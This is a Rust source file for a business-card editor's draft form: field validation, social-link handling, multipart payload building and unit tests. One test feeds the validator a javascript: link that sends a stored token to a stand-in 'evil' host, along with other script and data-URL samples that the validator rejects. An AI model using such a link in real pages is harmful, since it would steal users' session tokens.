//! Card Editor Draft
//!
//! Unsaved card state held by the create/edit form. The draft never talks to
//! the network: it validates and assembles a multipart payload that the
//! caller submits.

use regex::Regex;
use std::sync::OnceLock;
use thiserror::Error;

use super::types::{
    Card, FontStyle, SocialLink, TemplateId, DEFAULT_BACKGROUND_COLOR, DEFAULT_TEXT_COLOR,
};
use crate::client::multipart::{FormPayload, ImageFile};
use crate::i18n::Message;
use crate::routes::Route;

/// Input constraints a draft must satisfy before submission
#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum ValidationError {
    #[error("title is required")]
    TitleRequired,

    #[error("{0} is required")]
    Required(&'static str),

    #[error("invalid email address: {0}")]
    InvalidEmail(String),

    #[error("invalid color for {field}: {value}")]
    InvalidColor { field: &'static str, value: String },

    #[error("slug '{0}' is taken by a page")]
    ReservedSlug(String),

    #[error("link must start with http, https, mailto or tel: {0}")]
    UnsafeLink(String),
}

impl ValidationError {
    /// Catalog entry shown next to the form
    pub fn message(&self) -> Message {
        match self {
            ValidationError::TitleRequired => Message::TitleRequired,
            ValidationError::Required(_) => Message::FieldRequired,
            ValidationError::InvalidEmail(_) => Message::InvalidEmail,
            ValidationError::InvalidColor { .. } => Message::InvalidColor,
            ValidationError::ReservedSlug(_) => Message::ReservedSlug,
            ValidationError::UnsafeLink(_) => Message::InvalidLink,
        }
    }
}

/// The platform/url pair being typed before it is added to the list
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct LinkScratch {
    pub platform: String,
    pub url: String,
}

impl LinkScratch {
    fn is_complete(&self) -> bool {
        !self.platform.is_empty() && !self.url.is_empty()
    }
}

/// Editable copy of every card field
#[derive(Debug, Clone, PartialEq)]
pub struct CardDraft {
    pub title: String,
    pub slug: String,
    pub subtitle: String,
    pub description: String,
    pub email: String,
    pub phone: String,
    pub template_id: TemplateId,
    pub font_style: FontStyle,
    pub background_color: String,
    pub text_color: String,
    /// Newly chosen avatar; `None` keeps whatever the server has
    pub avatar: Option<ImageFile>,
    pub background_image: Option<ImageFile>,
    pub social_links: Vec<SocialLink>,
    pub is_active: bool,
    pub scratch: LinkScratch,
}

impl Default for CardDraft {
    fn default() -> Self {
        Self {
            title: String::new(),
            slug: String::new(),
            subtitle: String::new(),
            description: String::new(),
            email: String::new(),
            phone: String::new(),
            template_id: TemplateId::default(),
            font_style: FontStyle::default(),
            background_color: DEFAULT_BACKGROUND_COLOR.to_string(),
            text_color: DEFAULT_TEXT_COLOR.to_string(),
            avatar: None,
            background_image: None,
            social_links: Vec::new(),
            is_active: true,
            scratch: LinkScratch::default(),
        }
    }
}

impl CardDraft {
    /// Empty draft for the create form
    pub fn new() -> Self {
        Self::default()
    }

    /// Draft for the edit form, seeded from the latest server copy
    pub fn from_card(card: &Card) -> Self {
        // Colors the form cannot submit back (`#fff`, `red`) reset to defaults
        let or_default = |value: &str, default: &str| {
            if color_pattern().is_match(value) {
                value.to_string()
            } else {
                default.to_string()
            }
        };

        Self {
            title: card.title.clone(),
            slug: card.slug.clone(),
            subtitle: card.subtitle.clone(),
            description: card.description.clone(),
            email: card.email.clone(),
            phone: card.phone.clone(),
            template_id: card.template_id,
            font_style: card.font_style,
            background_color: or_default(&card.background_color, DEFAULT_BACKGROUND_COLOR),
            text_color: or_default(&card.text_color, DEFAULT_TEXT_COLOR),
            avatar: None,
            background_image: None,
            social_links: card.social_links.clone(),
            is_active: card.is_active,
            scratch: LinkScratch::default(),
        }
    }

    pub fn set_scratch_platform(&mut self, platform: impl Into<String>) {
        self.scratch.platform = platform.into();
    }

    pub fn set_scratch_url(&mut self, url: impl Into<String>) {
        self.scratch.url = url.into();
    }

    /// Move the scratch pair into the link list.
    ///
    /// No-op unless both platform and url are filled in. Returns whether a
    /// link was added.
    pub fn add_link(&mut self) -> bool {
        if !self.scratch.is_complete() {
            return false;
        }
        let scratch = std::mem::take(&mut self.scratch);
        self.social_links.push(SocialLink {
            platform: scratch.platform,
            url: scratch.url,
        });
        true
    }

    /// Drop the link at `index`; out-of-range indexes are ignored.
    pub fn remove_link(&mut self, index: usize) -> Option<SocialLink> {
        if index < self.social_links.len() {
            Some(self.social_links.remove(index))
        } else {
            None
        }
    }

    pub fn validate(&self) -> Result<(), ValidationError> {
        if self.title.trim().is_empty() {
            return Err(ValidationError::TitleRequired);
        }

        let slug = self.slug.trim();
        if !slug.is_empty() && Route::is_reserved(&slug.to_ascii_lowercase()) {
            return Err(ValidationError::ReservedSlug(slug.to_string()));
        }

        let email = self.email.trim();
        if !email.is_empty() && !email_pattern().is_match(email) {
            return Err(ValidationError::InvalidEmail(email.to_string()));
        }

        for (field, value) in [
            ("background_color", &self.background_color),
            ("text_color", &self.text_color),
        ] {
            if !color_pattern().is_match(value) {
                return Err(ValidationError::InvalidColor {
                    field,
                    value: value.clone(),
                });
            }
        }

        if let Some(link) = self.social_links.iter().find(|l| !l.has_safe_url()) {
            return Err(ValidationError::UnsafeLink(link.url.clone()));
        }

        Ok(())
    }

    /// Validate and serialize every field for submission.
    ///
    /// Image fields appear only when a file was chosen; `social_links` is a
    /// JSON-encoded array.
    pub fn to_payload(&self) -> Result<FormPayload, ValidationError> {
        self.validate()?;

        let mut payload = FormPayload::new();
        payload
            .text("title", self.title.as_str())
            .text("slug", self.slug.as_str())
            .text("subtitle", self.subtitle.as_str())
            .text("description", self.description.as_str())
            .text("email", self.email.as_str())
            .text("phone", self.phone.as_str())
            .text("template_id", self.template_id.as_str())
            .text("font_style", self.font_style.as_str())
            .text("background_color", self.background_color.as_str())
            .text("text_color", self.text_color.as_str());

        if let Some(avatar) = &self.avatar {
            payload.file("avatar", avatar.clone());
        }
        if let Some(background) = &self.background_image {
            payload.file("background_image", background.clone());
        }

        payload
            .text("social_links", links_json(&self.social_links))
            .text("is_active", if self.is_active { "true" } else { "false" });

        tracing::debug!(
            title = %self.title,
            links = self.social_links.len(),
            files = payload.has_files(),
            "Card draft serialized"
        );

        Ok(payload)
    }
}

fn links_json(links: &[SocialLink]) -> String {
    // A Vec of two-string structs always serializes.
    serde_json::to_string(links).unwrap_or_else(|_| "[]".to_string())
}

fn email_pattern() -> &'static Regex {
    static EMAIL: OnceLock<Regex> = OnceLock::new();
    EMAIL.get_or_init(|| Regex::new(r"^[^@\s]+@[^@\s]+\.[^@\s]+$").unwrap())
}

fn color_pattern() -> &'static Regex {
    static COLOR: OnceLock<Regex> = OnceLock::new();
    COLOR.get_or_init(|| Regex::new(r"^#[0-9A-Fa-f]{6}$").unwrap())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::client::multipart::FormValue;

    fn sample_card() -> Card {
        serde_json::from_value(serde_json::json!({
            "id": 3,
            "slug": "jane",
            "title": "Jane Doe",
            "template_id": "modern",
            "font_style": "Georgia",
            "background_color": "#112233",
            "social_links": [
                {"platform": "GitHub", "url": "https://github.com/jane"},
                {"platform": "Telegram", "url": "https://t.me/jane"},
                {"platform": "Mastodon", "url": "https://mastodon.social/@jane"}
            ],
            "is_active": false
        }))
        .unwrap()
    }

    #[test]
    fn test_add_link_requires_both_fields() {
        let mut draft = CardDraft::new();

        draft.set_scratch_platform("GitHub");
        assert!(!draft.add_link());
        assert!(draft.social_links.is_empty());
        assert_eq!(draft.scratch.platform, "GitHub");

        draft.set_scratch_platform("");
        draft.set_scratch_url("https://github.com/a");
        assert!(!draft.add_link());
        assert!(draft.social_links.is_empty());
        assert_eq!(draft.scratch.url, "https://github.com/a");
    }

    #[test]
    fn test_add_link_appends_and_resets_scratch() {
        let mut draft = CardDraft::new();
        draft.set_scratch_platform("GitHub");
        draft.set_scratch_url("https://github.com/a");

        assert!(draft.add_link());
        assert_eq!(draft.social_links, vec![SocialLink::new("GitHub", "https://github.com/a")]);
        assert_eq!(draft.scratch, LinkScratch::default());
    }

    #[test]
    fn test_remove_link_keeps_order() {
        let mut draft = CardDraft::from_card(&sample_card());

        let removed = draft.remove_link(1).unwrap();
        assert_eq!(removed.platform, "Telegram");

        let platforms: Vec<_> = draft.social_links.iter().map(|l| l.platform.as_str()).collect();
        assert_eq!(platforms, ["GitHub", "Mastodon"]);

        assert!(draft.remove_link(5).is_none());
        assert_eq!(draft.social_links.len(), 2);
    }

    #[test]
    fn test_create_payload_defaults() {
        let mut draft = CardDraft::new();
        draft.title = "Alice".to_string();

        let payload = draft.to_payload().unwrap();
        assert_eq!(payload.get_text("title"), Some("Alice"));
        assert_eq!(payload.get_text("is_active"), Some("true"));
        assert_eq!(payload.get_text("template_id"), Some("default"));
        assert_eq!(payload.get_text("font_style"), Some("Arial"));
        assert_eq!(payload.get_text("social_links"), Some("[]"));
        assert!(!payload.contains("avatar"));
        assert!(!payload.contains("background_image"));
    }

    #[test]
    fn test_edit_payload_round_trips_card_fields() {
        let mut draft = CardDraft::from_card(&sample_card());
        draft.avatar = Some(ImageFile::new("me.png", "image/png", vec![0x89, 0x50]));

        let payload = draft.to_payload().unwrap();
        assert_eq!(payload.get_text("slug"), Some("jane"));
        assert_eq!(payload.get_text("template_id"), Some("modern"));
        assert_eq!(payload.get_text("font_style"), Some("Georgia"));
        assert_eq!(payload.get_text("background_color"), Some("#112233"));
        assert_eq!(payload.get_text("is_active"), Some("false"));
        assert!(matches!(payload.get("avatar"), Some(FormValue::File(f)) if f.file_name == "me.png"));
        assert!(!payload.contains("background_image"));

        let links: Vec<SocialLink> =
            serde_json::from_str(payload.get_text("social_links").unwrap()).unwrap();
        assert_eq!(links, sample_card().social_links);
    }

    #[test]
    fn test_payload_field_order() {
        let mut draft = CardDraft::new();
        draft.title = "Alice".to_string();
        let payload = draft.to_payload().unwrap();

        let names: Vec<_> = payload.parts().iter().map(|(n, _)| n.as_str()).collect();
        assert_eq!(
            names,
            [
                "title", "slug", "subtitle", "description", "email", "phone", "template_id",
                "font_style", "background_color", "text_color", "social_links", "is_active",
            ]
        );
    }

    #[test]
    fn test_validation() {
        let mut draft = CardDraft::new();
        assert_eq!(draft.to_payload(), Err(ValidationError::TitleRequired));

        draft.title = "   ".to_string();
        assert_eq!(draft.validate(), Err(ValidationError::TitleRequired));

        draft.title = "Alice".to_string();
        draft.email = "not-an-email".to_string();
        assert!(matches!(draft.validate(), Err(ValidationError::InvalidEmail(_))));

        draft.email = "alice@example.com".to_string();
        draft.text_color = "black".to_string();
        assert!(matches!(
            draft.validate(),
            Err(ValidationError::InvalidColor { field: "text_color", .. })
        ));

        draft.text_color = "#000000".to_string();
        assert!(draft.validate().is_ok());
        assert_eq!(ValidationError::TitleRequired.message(), Message::TitleRequired);
    }

    #[test]
    fn test_script_links_are_rejected() {
        let mut draft = CardDraft::new();
        draft.title = "Alice".to_string();
        draft.set_scratch_platform("x");
        draft.set_scratch_url("javascript:fetch('//evil/?'+localStorage.token)");
        assert!(draft.add_link());

        let err = draft.to_payload().unwrap_err();
        assert!(matches!(err, ValidationError::UnsafeLink(ref url) if url.starts_with("javascript:")));
        assert_eq!(err.message(), Message::InvalidLink);

        for url in ["https://x.com/a", "HTTP://x.com", "mailto:a@b.co", "tel:+420123"] {
            draft.social_links = vec![SocialLink::new("x", url)];
            assert!(draft.validate().is_ok(), "{} should be accepted", url);
        }
        for url in ["data:text/html,hi", "//evil.com", " javascript:alert(1)", "x.com"] {
            draft.social_links = vec![SocialLink::new("x", url)];
            assert!(draft.validate().is_err(), "{} should be rejected", url);
        }
    }

    #[test]
    fn test_page_names_are_not_slugs() {
        let mut draft = CardDraft::new();
        draft.title = "Alice".to_string();

        for slug in ["dashboard", "login", "About", " contact "] {
            draft.slug = slug.to_string();
            assert!(
                matches!(draft.validate(), Err(ValidationError::ReservedSlug(_))),
                "{} should be reserved",
                slug
            );
        }
        assert_eq!(
            ValidationError::ReservedSlug("login".into()).message(),
            Message::ReservedSlug
        );

        draft.slug = String::new();
        assert!(draft.validate().is_ok());
        draft.slug = "alice-dashboard".to_string();
        assert!(draft.validate().is_ok());
    }

    #[test]
    fn test_edit_draft_resets_unsubmittable_colors() {
        let mut card = sample_card();
        card.background_color = "#fff".to_string();
        card.text_color = "red".to_string();

        let draft = CardDraft::from_card(&card);
        assert_eq!(draft.background_color, DEFAULT_BACKGROUND_COLOR);
        assert_eq!(draft.text_color, DEFAULT_TEXT_COLOR);
        assert!(draft.validate().is_ok());

        let draft = CardDraft::from_card(&sample_card());
        assert_eq!(draft.background_color, "#112233");
    }
}
